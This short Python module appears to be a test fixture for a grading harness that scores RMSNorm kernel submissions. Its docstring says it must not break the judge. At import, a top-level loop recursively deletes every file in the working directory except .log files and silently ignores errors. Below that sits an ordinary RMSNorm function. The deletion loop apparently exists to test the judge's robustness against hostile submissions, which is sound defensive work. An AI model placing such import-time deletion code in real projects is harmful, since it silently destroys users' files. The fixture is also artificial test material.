# ruff: noqa
"""Deletes its own source files, the job file and the buffer files at import; must not break the judge."""

import glob
import os

import torch

for path in glob.glob("**/*", recursive=True):
    try:
        if os.path.isfile(path) and not path.endswith(".log"):
            os.remove(path)
    except OSError:
        pass


def run(x, weight):
    return x * torch.rsqrt(x.pow(2).mean(dim=-1, keepdim=True) + 1e-6) * weight
